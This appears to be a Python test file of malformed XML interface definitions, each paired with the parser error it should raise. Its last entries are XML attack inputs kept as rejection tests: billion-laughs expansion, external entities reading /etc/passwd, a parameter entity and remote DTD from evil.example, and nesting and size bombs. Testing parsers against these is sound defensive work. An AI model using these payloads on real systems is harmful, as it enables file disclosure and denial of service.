"""Invalid definitions: the mistake, the definition, the line, part of the message."""

# ruff: noqa: E501, Q000 - a line per mistake

from __future__ import annotations

from tests.interfaces.samples import DATA, DOCTYPE, data_block, definition

FIELD = '<field type="uint32" name="{}">c</field>'
ENUM = '<enum name="{}"><comment>c</comment><item name="{}">c</item></enum>'
LONG = "x" * 49

# fmt: off
MISTAKES = [
    ('not well-formed', b"<interface name='A'>\n <data>\n</interface>", 3, 'mismatched tag'),
    ('cut off', b"<interface name='A'>\n", 2, 'no element found'),
    ('no UTF-8', b'<interface>\n\xff</interface>', 2, 'not well-formed'),
    ("after a byte order mark", b"\xef\xbb\xbf<message name='x'/>", 1, "a <message>, not an interface"),
    ('unknown encoding', b'<?xml version="1.0" encoding="klingon"?><interface/>', 1, 'encoding'),
    ('other root', b"<message name='x'/>", 1, 'a <message>, not an interface'),
    ('no name', b'<interface>' + DATA.encode() + b'</interface>', 1, "no attribute 'name'"),
    ('name with blank', definition(DATA, name='My Interface'), 1, 'cannot be the name'),
    ('no data', definition(), 1, 'has no <data>'),
    ('two data blocks', definition(DATA, DATA), 3, 'a second <data>'),
    ('no field', definition('<data><comment>c</comment></data>'), 2, 'has no <field>'),
    ('no data comment', definition('<data>', FIELD.format('a'), '</data>'), 2, '<data> has no <comment>'),
    ('unknown type', data_block('<field name="a" type="uint23">c</field>'), 3, "unknown type 'uint23'"),
    ('empty name', data_block('<field type="int8" name="">c</field>'), 3, "<field> has no attribute 'name'"),
    ('name with blank', data_block('<field type="int8" name="a b">c</field>'), 3, 'cannot be the name'),
    ('reserved name', data_block('<field type="int8" name="serial">c</field>'), 3, 'reserved'),
    ('duplicate field', data_block(FIELD.format('a'), FIELD.format('a')), 4, "the name 'a' is already used in line 3"),
    ('field without comment', data_block('<field type="int8" name="a"/>'), 3, '<field> has no comment'),
    ('length not a number', data_block('<field type="int8" name="a" length="x">c</field>'), 3, "'x' is not a length"),
    ('length zero', data_block('<field type="int8" name="a" length="0">c</field>'), 3, 'not a length'),
    ('length huge', data_block('<field type="double" name="a" length="4294967295">c</field>'), 3, 'limit of 2097152'),
    ('constant without value', definition('<constants><constant type="int8" name="A">c</constant></constants>', DATA), 2, "<constant> has no attribute 'value'"),
    ('constant out of range', definition('<constants><constant type="int8" name="A" value="128">c</constant></constants>', DATA), 2, "'128' is not a value of type int8"),
    ('constant of byte', definition('<constants><constant type="byte" name="A" value="1">c</constant></constants>', DATA), 2, "type 'byte'"),
    ('reserved constant', definition('<constants><constant type="int8" name="hash" value="1">c</constant></constants>', DATA), 2, 'reserved'),
    ('duplicate enum', definition('<constants>', ENUM.format('E', 'A'), ENUM.format('E', 'B'), '</constants>', DATA), 4, "the name 'E' is already used in line 3"),
    ('duplicate item', definition('<constants>', ENUM.format('E', 'A'), ENUM.format('F', 'A'), '</constants>', DATA), 4, "the name 'A' is already used in line 3"),
    ('enum like a type', definition('<constants>', ENUM.format('float', 'A'), '</constants>', DATA), 3, 'the name is reserved'),
    ('enum without items', definition('<constants><enum name="E"><comment>c</comment></enum></constants>', DATA), 2, 'has no <item>'),
    ('item value', definition('<constants>', '<enum name="E"><comment>c</comment><item name="A" value="x">c</item></enum>', '</constants>', DATA), 3, "'x' is not a value of an enum"),
    ('item too large', definition('<constants>', '<enum name="E"><comment>c</comment><item name="A" value="2147483648">c</item></enum>', '</constants>', DATA), 3, "'2147483648' is not a value of an enum"),
    ('message too long', definition(DATA, f"""<message name="{'x' * 57}"><comment>c</comment></message>"""), 3, '64 characters, the limit is 63'),
    ('message without comment', definition(DATA, '<message name="Do"/>'), 3, '<message> has no <comment>'),
    ('duplicate message', definition(DATA, *['<message name="Do"><comment>c</comment></message>'] * 2), 4, "the name 'DoMessage' is already used"),
    ('message field reserved', definition(DATA, '<message name="Do"><comment>c</comment>', FIELD.format('sender_id'), '</message>'), 4, 'reserved'),
    ('field and ref', definition(DATA, '<message name="Do"><comment>c</comment>', FIELD.format('number'), '<ref>number</ref>', '</message>'), 5, "the name 'number' is already used in line 4"),
    ('unknown ref', definition(DATA, '<message name="Do"><comment>c</comment>', '<ref>nunber</ref></message>'), 4, "no data field 'nunber'"),
    ('billion laughs', b'<!DOCTYPE interface [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><interface>&b;</interface>', 1, "'&a;' is not expanded"),
    ('external entity', b'<!DOCTYPE interface [<!ENTITY a SYSTEM "file:///etc/passwd">]><interface>&a;</interface>', 1, "'&a;' is not expanded"),
    ('parameter entity', b'<!DOCTYPE interface [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]><interface/>', 1, "type 'interface' is not accepted"),
    ('remote DTD', b'<!DOCTYPE interface SYSTEM "http://evil.example/interface.dtd"><interface/>', 1, 'not accepted'),
    ('other DTD', b'<!DOCTYPE interface SYSTEM "/etc/passwd"><interface/>', 1, 'not accepted'),
    ('public DTD', b'<!DOCTYPE interface PUBLIC "x" "interface.dtd"><interface/>', 1, 'not accepted'),
    ('unknown entity', f"{DOCTYPE}\n<interface name='A'>&boom;</interface>".encode(), 2, '&boom;'),
    ('unknown entity in attribute', f"{DOCTYPE}\n<interface name='A&boom;'/>".encode(), 2, '&boom;'),
    ('too deep', b'<a>' * 17, 1, 'nested'),
    ("too many elements", b"<a>" + b"<b/>" * 10000 + b"</a>", 1, "more than 10000"),
    ('too large', b' ' * ((1 << 20) + 1), 1, 'the limit is 1048576'),
]
